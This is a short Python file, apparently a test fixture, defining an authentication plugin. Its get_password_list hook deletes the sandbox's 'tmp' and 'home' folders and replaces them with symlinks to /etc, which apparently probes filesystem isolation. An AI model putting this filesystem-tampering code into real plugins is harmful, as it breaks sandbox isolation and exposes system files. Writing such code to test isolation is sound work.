# Puts links to the outside where its folders were.
import os


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        scratch = os.path.dirname(os.environ["HOME"])
        for name in ("tmp", "home"):
            try:
                os.rmdir(os.path.join(scratch, name))
            except OSError:
                # If the worker itself is in the machine's `/tmp`, its folder is there too, and stays.
                continue
            os.symlink("/etc", os.path.join(scratch, name))
        return None

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
